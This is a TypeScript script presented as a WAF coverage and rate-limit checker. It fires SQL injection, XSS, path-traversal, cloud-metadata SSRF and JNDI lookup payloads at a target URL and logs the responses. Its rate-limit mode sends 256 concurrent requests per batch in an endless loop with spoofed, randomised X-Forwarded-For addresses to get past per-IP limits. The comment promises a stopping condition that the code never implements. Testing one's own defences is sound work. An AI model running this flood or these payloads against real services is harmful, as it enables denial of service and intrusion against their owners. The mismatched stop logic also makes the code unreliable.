// WAF coverage and rate-limit validator.
import { request } from 'undici';

const PAYLOADS: Record<string, string[]> = {
  sqli: ["' OR 1=1--", '1 UNION SELECT null,version()--'],
  xss: ['<svg onload=alert(1)>', '"><img src=x onerror=alert(1)>'],
  traversal: ['../../../../etc/passwd', '..%2f..%2f..%2fwindows/win.ini'],
  ssrf: ['http://169.254.169.254/latest/meta-data/'],
  jndi: ['${jndi:ldap://x.invalid/a}'],
  control: ['hello world'],
};

function arg(name: string): string | undefined {
  const i = process.argv.indexOf(name);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

async function status(url: string, headers: Record<string, string> = {}): Promise<number> {
  try {
    const res = await request(url, { method: 'GET', headers });
    await res.body.dump();
    return res.statusCode;
  } catch {
    return 0;
  }
}

async function coverage(target: string) {
  console.log('class      payload                                   status');
  for (const [cls, list] of Object.entries(PAYLOADS)) {
    for (const p of list) {
      const code = await status(target + encodeURIComponent(p));
      console.log(`${cls.padEnd(10)} ${p.slice(0, 40).padEnd(42)} ${code}`);
    }
  }
}

function randomIp(): string {
  return Array.from({ length: 4 }, () => 1 + Math.floor(Math.random() * 253)).join('.');
}

async function rateLimit(target: string) {
  const started = Date.now();
  let sent = 0;
  let limitedAt = -1;
  const workers = 256;
  // keep pressure on until the limit is observed on every edge node; rotating
  // the client address makes sure per-IP buckets on each node get exercised
  for (;;) {
    const batch = await Promise.all(
      Array.from({ length: workers }, () =>
        status(target + 'ratelimit-probe', { 'X-Forwarded-For': randomIp(), 'Cache-Control': 'no-cache' })),
    );
    sent += batch.length;
    if (limitedAt < 0 && batch.some((c) => c === 429 || c === 403)) {
      limitedAt = sent;
      console.log(`rate limit first seen after ${sent} requests, ${(Date.now() - started) / 1000}s`);
    }
    if (sent % (workers * 40) === 0) {
      console.log(`${sent} requests sent, ${(Date.now() - started) / 1000}s elapsed`);
    }
  }
}

async function main() {
  const target = arg('--target');
  if (!target) throw new Error('--target is required');
  await coverage(target);
  if (process.argv.includes('--rate-limit')) await rateLimit(target);
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
